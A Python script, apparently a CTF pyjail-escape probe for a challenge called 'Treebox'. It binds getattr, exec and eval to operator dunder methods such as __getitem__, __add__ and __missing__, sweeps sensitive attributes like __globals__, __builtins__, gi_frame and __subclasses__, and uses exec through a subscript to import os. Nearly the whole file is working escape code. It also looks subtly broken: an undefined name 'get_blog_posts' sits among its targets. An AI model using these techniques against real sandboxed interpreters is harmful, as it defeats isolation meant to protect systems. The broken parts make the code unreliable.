"""Operators as calls: a builtin bound to a special method is called by the interpreter itself (F3, Treebox)."""
loot = []


def generator():
    yield 1


names = ("gi_frame", "gi_code", "__globals__", "__builtins__", "__code__", "__self__", "__dict__", "__subclasses__", "__reduce_ex__")
targets = (generator(), generator, print, len, get_blog_posts, type, int, object, type(print))

for name in names:
    for target in targets:

        class Item:
            __class_getitem__ = getattr
            __getitem__ = staticmethod(getattr)

        class Late:
            __getattr__ = lambda self, _name, target=target: getattr(target, name)

        class Static:
            __add__ = __sub__ = __matmul__ = __getitem__ = __call__ = __contains__ = __eq__ = __format__ = __rshift__ = staticmethod(
                lambda other, target=target: getattr(target, other)
            )

        for use in (
            lambda: Item()[target, name], lambda: Item[name], lambda: Late().anything, lambda: Static() + name, lambda: Static() @ name,
            lambda: Static()[name], lambda: Static()(name), lambda: Static() >> name, lambda: f"{Static():{name}}",
            lambda: getattr(Late(), name), lambda: [*map(getattr, [target], [name])], lambda: max([target], key=lambda x: getattr(x, name)),
            lambda: sorted([target], key=lambda x: loot.append(getattr(x, name))),
        ):
            try:
                loot.append(use())
            except BaseException as error:
                loot.append(error.args)


class Namespace(dict):
    __missing__ = lambda self, name: getattr(generator(), name)


for text in ("gi_frame", "gi_code"):
    for run in (
        lambda: eval(text, {}, Namespace()), lambda: "{%s}" % text, lambda: "%%(%s)s" % text % Namespace(),
        lambda: ("{%s}" % text).format_map(Namespace()), lambda: "{0.%s}".format(generator()) if False else ("{0.%s}" % text).format(generator()),
    ):
        try:
            loot.append(run())
        except BaseException as error:
            loot.append(error.args)


class Exec:
    __getitem__ = exec
    __contains__ = exec
    __class_getitem__ = eval


for use in (lambda: Exec()["loot.append(__import__('os'))"], lambda: "loot.append(open)" in Exec(), lambda: Exec["__builtins__"]):
    try:
        loot.append(use())
    except BaseException as error:
        loot.append(error)


class Sealed:
    __getattribute__ = getattr
    __init_subclass__ = print
    __set_name__ = print
    __del__ = print
    __exit__ = print
    __enter__ = print
    __iter__ = print
    __len__ = print
    __str__ = print
    __hash__ = print
    __index__ = print


try:
    item = Sealed()
    with item:
        raise ValueError
except BaseException as error:
    loot.append(error)
